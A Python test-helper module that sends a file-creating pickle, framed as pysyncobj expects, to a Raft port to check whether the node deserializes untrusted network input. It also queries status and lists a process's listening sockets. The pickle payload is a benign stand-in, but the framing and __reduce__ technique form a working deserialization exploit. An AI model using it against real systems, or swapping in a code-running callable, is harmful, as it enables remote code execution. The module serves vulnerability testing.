"""What an attacker sends to a Raft port: pysyncobj's framing around a pickle whose
loading creates a file (a benign stand-in for running code), and a plain ``status``
utility message. Tests only."""

from __future__ import annotations

import ipaddress
import pickle
import socket
import struct
import time
import zlib
from pathlib import Path
from typing import Any


class _OpensAFile:
    """Unpickling this calls ``open(path, "w")``: the file appears if it was loaded."""

    def __init__(self, path: Path) -> None:
        self.path = str(path)

    def __reduce__(self) -> tuple[Any, tuple[str, str]]:
        return (open, (self.path, "w"))


def frame(message: Any) -> bytes:
    """A message as pysyncobj frames it on the wire, unencrypted."""
    data = zlib.compress(pickle.dumps(message), 3)
    return struct.pack("i", len(data)) + data


def send_file_creating_pickle(address: str, path: Path, timeout: float = 2.0) -> None:
    """Send the payload, as first and as second message of a connection (the second
    is what pysyncobj parses after a key exchange), then give the receiver time."""
    with _connect(address, timeout) as sock:
        sock.sendall(frame(_OpensAFile(path)) + frame(_OpensAFile(path)))
        _read_until_closed(sock, timeout)
    time.sleep(0.3)


def ask_status(address: str, timeout: float = 2.0) -> bytes:
    """Send pysyncobj's ``['status']`` utility message; whatever came back."""
    with _connect(address, timeout) as sock:
        sock.sendall(frame(["status"]))
        return _read_until_closed(sock, timeout)


def _connect(address: str, timeout: float) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=timeout)


def _read_until_closed(sock: socket.socket, timeout: float) -> bytes:
    got = b""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            chunk = sock.recv(65536)
        except (TimeoutError, ConnectionResetError):
            break
        if not chunk:
            break
        got += chunk
    return got


def listeners_of(pid: int) -> list[str]:
    """``ADDR:PORT`` of every TCP socket that process ``pid`` listens on (from /proc,
    in the process's own network namespace)."""
    inodes = set()
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        try:
            target = fd.readlink().as_posix()
        except OSError:
            continue
        if target.startswith("socket:["):
            inodes.add(target[8:-1])
    found = []
    for table, family in (("tcp", socket.AF_INET), ("tcp6", socket.AF_INET6)):
        for line in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] != "0A" or fields[9] not in inodes:  # 0A: LISTEN
                continue
            found.append(_address(fields[1], family))
    return found


def _address(hex_address: str, family: int) -> str:
    """/proc/net/tcp's ``0100007F:1F90`` as ``127.0.0.1:8080`` (ipaddress, not
    socket.inet_ntop, which pysyncobj replaces with a Windows stand-in)."""
    raw, port = hex_address.split(":")
    packed = bytes.fromhex(raw)
    if family == socket.AF_INET:
        return f"{ipaddress.IPv4Address(packed[::-1])}:{int(port, 16)}"
    words = b"".join(packed[i:i + 4][::-1] for i in range(0, 16, 4))  # little-endian words
    return f"[{ipaddress.IPv6Address(words)}]:{int(port, 16)}"
